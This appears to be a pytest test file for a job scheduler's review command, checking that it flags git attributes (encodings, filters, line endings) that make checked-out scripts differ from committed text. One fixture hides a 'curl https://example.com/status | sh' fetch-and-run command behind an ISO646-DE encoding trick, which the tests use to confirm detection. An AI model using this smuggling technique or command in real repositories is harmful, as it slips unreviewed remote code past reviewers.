"""What a checkout converts: a review says that the text of the commit is not the text that would run."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

from scheduler.git.attributes import Attributes
from scheduler.git.run import GitError
from scheduler.machine import orphans
from tests.faces.conftest import Root

SCRIPT = "scripts/flaky.sh"
CURL = "curl https://example.com/status ö sh\n"  # a checkout by ISO646-DE has | for ö
FORMATS = ("text", "markdown", "github")
HEADS = pytest.mark.parametrize("head", [(), ("--head", "HEAD")], ids=["the files", "a commit"])


def commit_blob(root: Root, path: str, data: bytes) -> None:
    """Commits these bytes as they are, then has git check them out."""
    made = subprocess.run(
        ["git", "-C", root.path, "hash-object", "-w", "--stdin", "--no-filters"],
        input=data,
        capture_output=True,
        check=True,
    )
    root.git("update-index", "--add", "--cacheinfo", f"100644,{made.stdout.decode().strip()},{path}")
    root.git("commit", "-qm", "x")
    (root.path / path).unlink(missing_ok=True)
    root.git("checkout", "-q", "--", path)


def attributes(root: Root, text: str, path: str = ".gitattributes") -> None:
    commit_blob(root, path, text.encode())
    for each in root.git("ls-files", "scripts", "jobs").split():
        (root.path / each).unlink()
    root.git("checkout", "-q", "--", "scripts", "jobs")


def reviewed(root: Root, *head: str) -> Any:
    return root.cli("plan", "--base", "base", *head, "--json")


def changed(done: Any) -> list[Any]:
    return [each for each in done.json["root_changed"] if each["field"].startswith("attributes.")]


@HEADS
def test_a_text_that_a_checkout_turns_into_another_is_an_error_that_gives_power(
    root: Root, head: tuple[str, ...]
) -> None:
    root.git("tag", "base")
    attributes(root, "*.sh working-tree-encoding=ISO646-DE\n")
    commit_blob(root, SCRIPT, CURL.encode())
    assert (root.path / SCRIPT).read_text() == CURL.replace("ö", "|")  # and this is what would run
    done = reviewed(root, *head)
    assert done.code == 1
    assert (SCRIPT, 1, 1, "file.converted") in done.problems
    assert changed(done) == [
        {
            "field": f"attributes.{SCRIPT}",
            "before": None,
            "after": "working-tree-encoding=ISO646-DE",
            "widens": True,
            "jobs": ["flaky"],
        }
    ]
    [diff] = done.json["task_diffs"]
    assert diff["note"] == "a different text would run: git converts it on checkout (working-tree-encoding=ISO646-DE)"
    for style in FORMATS:
        shown = root.cli("plan", "--base", "base", *head, "--format", style)
        assert shown.code == 1
        assert "working-tree-encoding=ISO646-DE" in shown.stdout
        assert "a different text would run" in shown.stdout or style == "github"


@HEADS
def test_attributes_alone_are_a_change_of_the_jobs_that_they_convert(root: Root, head: tuple[str, ...]) -> None:
    commit_blob(root, SCRIPT, CURL.encode())
    root.git("tag", "base")
    attributes(root, "*.sh working-tree-encoding=ISO646-DE\n", "scripts/.gitattributes")
    done = reviewed(root, *head)
    assert done.code == 1
    [change] = changed(done)
    assert (change["after"], change["jobs"], change["widens"]) == ("working-tree-encoding=ISO646-DE", ["flaky"], True)
    assert f"! {SCRIPT} (git's attributes): as committed -> working-tree-encoding=ISO646-DE" in root.cli(
        "plan", "--base", "base", *head
    ).stdout.replace("  [widens]", "")
    root.git("tag", "-f", "base")
    attributes(root, "", "scripts/.gitattributes")
    done = reviewed(root, *head)
    [change] = changed(done)  # taking it away is a change of what runs as well
    assert (change["before"], change["after"], change["widens"]) == ("working-tree-encoding=ISO646-DE", None, True)
    assert "file.converted" not in [code for *_, code in done.problems]


def test_a_macro_in_a_folder_below_is_resolved(root: Root) -> None:
    commit_blob(root, SCRIPT, b"# $Id$\necho hi\n")
    root.git("tag", "base")
    attributes(root, "[attr]tidy ident filter=odd\n")
    assert changed(reviewed(root)) == []
    attributes(root, "*.sh tidy\n", "scripts/.gitattributes")
    done = reviewed(root, "--head", "HEAD")
    assert [each["after"] for each in changed(done)] == ["filter=odd, ident"]
    assert done.code == 1


@HEADS
def test_no_filter_is_started_by_a_look(root: Root, tmp_path: Path, head: tuple[str, ...]) -> None:
    marker = tmp_path / "marker"
    root.git("tag", "base")
    attributes(root, "*.sh filter=odd\n")
    for name in ("clean", "smudge", "process"):
        root.git("config", f"filter.odd.{name}", f"touch {marker}; cat")
    done = reviewed(root, *head)
    assert [each["after"] for each in changed(done)] == ["filter=odd"]
    assert done.code == 1
    root.cli("validate")
    root.cli("sync")
    assert not marker.exists()


@HEADS
def test_what_was_so_before_and_is_not_touched_is_a_warning(root: Root, head: tuple[str, ...]) -> None:
    commit_blob(root, SCRIPT, b"# $Id$\necho hi\n")
    attributes(root, "*.sh ident\n")
    root.git("tag", "base")
    root.edit("jobs/triage.yaml", "MON-FRI", "MON")
    root.commit()
    done = reviewed(root, *head)
    assert done.code == 0
    assert (SCRIPT, 1, 1, "file.converted") in done.problems
    assert changed(done) == []


@pytest.mark.parametrize(
    ("path", "jobs"),
    [
        ("jobs/clock.yaml", ["new-year", "retired", "tick"]),
        ("scheduler.yaml", ["flaky", "heartbeat", "new-year", "retired", "tick", "triage"]),
        ("bin/agent.sh", ["heartbeat", "new-year", "retired", "tick", "triage"]),
    ],
)
def test_job_files_settings_and_files_of_runners_count_as_well(root: Root, path: str, jobs: list[str]) -> None:
    root.edit("scheduler.yaml", "command: [cat]", 'command: [sh, bin/agent.sh]\n    tasks: ["**"]')
    root.write("bin/agent.sh", "cat\n")
    root.commit()
    root.git("tag", "base")
    attributes(root, f"/{path} filter=odd\n")
    done = reviewed(root, "--head", "HEAD")
    assert [(each["field"], each["jobs"]) for each in changed(done)] == [(f"attributes.{path}", jobs)]
    assert (path, 1, 1, "file.converted") in done.problems


def test_a_text_that_becomes_a_job_on_a_checkout_alone_is_named(root: Root) -> None:
    root.git("tag", "base")
    attributes(root, "jobs/*.md working-tree-encoding=ASCII//TRANSLIT\n")
    commit_blob(root, "jobs/notes.md", "－－－\nid: hidden\n".encode())  # full width
    done = reviewed(root, "--head", "HEAD")
    assert ("jobs/notes.md", 1, 1, "file.converted") in done.problems
    assert "attributes.jobs/notes.md" in [each["field"] for each in changed(done)]
    assert done.code == 1


@HEADS
def test_line_ends_that_a_checkout_makes_are_a_warning_and_a_change(root: Root, head: tuple[str, ...]) -> None:
    root.git("tag", "base")
    attributes(root, "*.sh text eol=crlf\n*.md text=auto\n*.yaml eol=lf\n")
    assert b"\r\n" in (root.path / SCRIPT).read_bytes()
    done = reviewed(root, *head)
    assert done.code == 0
    assert [each["after"] for each in changed(done)] == ["eol=crlf"]
    assert [(path, code) for path, _, _, code in done.problems] == [(SCRIPT, "file.crlf")]


def test_a_pointer_of_git_lfs_is_no_error(root: Root) -> None:
    attributes(root, "prompts/* filter=lfs diff=lfs merge=lfs -text\n")
    root.git("tag", "base")
    pointer = f"version https://git-lfs.github.com/spec/v1\noid sha256:{'a' * 64}\nsize 9\n"
    commit_blob(root, "prompts/triage.md", pointer.encode())
    done = reviewed(root, "--head", "HEAD")
    assert (done.code, done.problems, changed(done)) == (0, [], [])


def test_a_checkout_that_holds_what_the_commit_holds_says_nothing(root: Root) -> None:
    root.git("tag", "base")
    attributes(root, "* text=auto\n*.sh text eol=lf\n*.md diff=markdown -text\nscripts/* binary\n")
    done = reviewed(root, "--head", "HEAD")
    assert (done.code, done.problems, changed(done)) == (0, [], [])


def test_files_come_and_go_with_what_converts_them(root: Root) -> None:
    attributes(root, "*.sh filter=odd\n")
    root.git("tag", "base")
    root.write("scripts/new.sh", "echo new\n")  # in no commit yet
    root.write("jobs/new.yaml", "id: new\nschedule: manual\nrunner: shell\ntask_source_path: scripts/new.sh\n")
    root.edit("jobs/triage.yaml", "prompts/triage.md", "scripts/nowhere.sh")
    root.delete("jobs/flaky.yaml", SCRIPT)
    done = reviewed(root)
    assert [(each["field"], each["after"], each["jobs"]) for each in changed(done)] == [
        ("attributes.scripts/new.sh", "filter=odd", ["new"])
    ]
    found = [(path, code) for path, _, _, code in done.problems]
    assert ("scripts/new.sh", "file.converted") in found
    assert ("scripts/nowhere.sh", "file.converted") not in found


def test_many_converted_files_take_no_more_calls_of_git(root: Root, monkeypatch: pytest.MonkeyPatch) -> None:
    attributes(root, "* filter=odd\n")
    root.git("tag", "base")
    started: list[str] = []

    def note(*args: Any, **kwargs: Any) -> Any:
        started.append(args[0][1])
        return start(*args, **kwargs)

    start = orphans.start
    monkeypatch.setattr(orphans, "start", note)
    done = reviewed(root)
    few = len(started)
    assert len(done.problems) == 7
    for n in range(60):
        root.write(f"jobs/n{n}.yaml", f"id: n{n}\nschedule: manual\ntask: x\n")
    root.git("add", "jobs")
    root.git("commit", "-qm", "x")
    started.clear()
    done = reviewed(root)
    assert len(done.problems) == 67
    assert len(started) == few


def test_many_files_that_are_converted_alike_are_one_line_of_a_comment(root: Root) -> None:
    for n in range(60):
        root.write(f"jobs/n{n:02}.yaml", f"id: n{n:02}\nschedule: manual\ntask: x\n")
    root.commit()
    root.git("tag", "base")
    attributes(root, "jobs/n* text eol=crlf\n*.sh filter=odd\n")
    shown = root.cli("plan", "--base", "base", "--head", "HEAD", "--format", "markdown").stdout
    [lines] = [line for line in shown.splitlines() if "`eol=crlf`; used by" in line]
    assert lines.startswith("- `jobs/n00.yaml`, ")
    assert " and 40 more, by git's attributes: `as committed`" in lines
    assert f"- `{SCRIPT}`, by git's attributes: `as committed` \u2192 `filter=odd`; used by `flaky`" in shown


def test_validate_and_sync_warn_and_take_the_file(root: Root) -> None:
    attributes(root, "*.sh working-tree-encoding=ISO646-DE\n")
    commit_blob(root, SCRIPT, CURL.encode())
    for command in ("validate", "plan", "sync"):
        done = root.cli(command, "--json")
        assert done.code == 0
        assert [(path, code) for path, _, _, code in done.problems] == [(SCRIPT, "file.converted")]
    assert "file.converted" in root.cli("validate").stdout


def test_what_only_this_machine_says_counts_for_its_files_alone(root: Root) -> None:
    (root.path / ".git/info").mkdir(exist_ok=True)
    (root.path / ".git/info/attributes").write_text("*.sh filter=odd\n")
    assert [code for *_, code in root.cli("validate", "--json").problems] == ["file.converted"]
    root.git("tag", "base")
    assert reviewed(root, "--head", "HEAD").problems == []


def branch_blob(root: Root, path: str) -> bytes:
    return subprocess.run(["git", "-C", root.path, "cat-file", "blob", f"b:{path}"], capture_output=True).stdout


def test_an_edit_on_a_branch_has_the_form_that_git_commits(root: Root) -> None:
    commit_blob(root, SCRIPT, b"# $Id$\necho one\n")
    attributes(root, "*.sh text eol=crlf ident\n")
    root.sync()
    assert b"$Id: " in (root.path / SCRIPT).read_bytes()
    root.run("flaky")  # of the text with CR LF and the expanded keyword
    root.write(SCRIPT, b"echo two\r\n")
    root.commit()
    root.ok("rollback", "flaky", "--to", "flaky:1", "--branch", "b")
    assert branch_blob(root, SCRIPT) == b"# $Id$\necho one\n"
    root.git("checkout", "-q", "b")
    assert root.git("status", "--porcelain") == ""
    again = root.ok("rollback", "flaky", "--to", "flaky:1", "--branch", "c")
    assert "nothing to do" in again.stderr


def test_an_edit_on_a_branch_says_where_git_will_make_another_text_of_it(root: Root, tmp_path: Path) -> None:
    attributes(root, "*.sh working-tree-encoding=ISO646-DE\n")
    (tmp_path / "text").write_text("echo ö\n")
    done = root.ok("update", "flaky", "--task-file", str(tmp_path / "text"), "--branch", "b")
    assert branch_blob(root, SCRIPT) == "echo ö\n".encode()
    assert f"git converts {SCRIPT} on checkout (working-tree-encoding=ISO646-DE)" in done.stderr


def test_a_rollback_to_a_commit_does_not_bring_back_what_never_ran(root: Root) -> None:
    attributes(root, "*.sh working-tree-encoding=ISO646-DE\n")
    commit_blob(root, SCRIPT, CURL.encode())
    old = root.git("rev-parse", "HEAD")
    attributes(root, "")
    commit_blob(root, SCRIPT, b"echo safe\n")
    done = root.cli("rollback", "flaky", "--to", f"commit:{old}")
    assert done.code == 3
    assert "lacks the text that ran" in done.stderr
    assert (root.path / SCRIPT).read_bytes() == b"echo safe\n"


def test_where_git_does_not_answer_a_review_fails_and_everything_else_goes_on(
    root: Root, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail(*args: object, **kwargs: object) -> bytes:
        raise GitError("git check-attr took longer than 30s")

    attributes(root, "*.sh filter=odd\n")
    root.write(SCRIPT, "echo two\n")  # else a sync has nothing to ask
    for name in ("run_git", "start_git"):
        monkeypatch.setattr(f"scheduler.git.attributes.{name}", fail)
    for command in ("validate", "sync"):
        assert root.cli(command).code == 0
    done = root.cli("plan", "--base", "HEAD", "--head", "HEAD")
    assert done.code == 5
    assert "git check-attr took longer than 30s" in done.stderr


def test_a_pass_over_files_as_committed_asks_git_for_no_attributes(root: Root, monkeypatch: pytest.MonkeyPatch) -> None:
    attributes(root, "*.sh filter=odd\n")

    def fail(*args: object, **kwargs: object) -> Attributes:
        raise AssertionError("asked")

    monkeypatch.setattr("scheduler.git.attributes.attributes_here", fail)
    assert root.cli("sync", "--json").problems == []


def test_outside_a_repository_nothing_is_said(root: Root) -> None:
    root.write(".gitattributes", "* filter=odd ident\n")
    shutil.rmtree(root.path / ".git")
    for command in ("validate", "sync"):
        assert root.cli(command, "--json").problems == []


def test_a_run_of_a_converted_file_does_not_claim_the_text_of_its_commit(root: Root) -> None:
    attributes(root, "*.sh working-tree-encoding=ISO646-DE\n")
    commit_blob(root, SCRIPT, "echo a ö cat\n".encode())
    assert root.git("status", "--porcelain") == ""
    root.sync()
    run = root.run("flaky")
    assert run["dirty"] == "modified"
    assert run["source_blob"] == root.git("rev-parse", f"HEAD:{SCRIPT}")
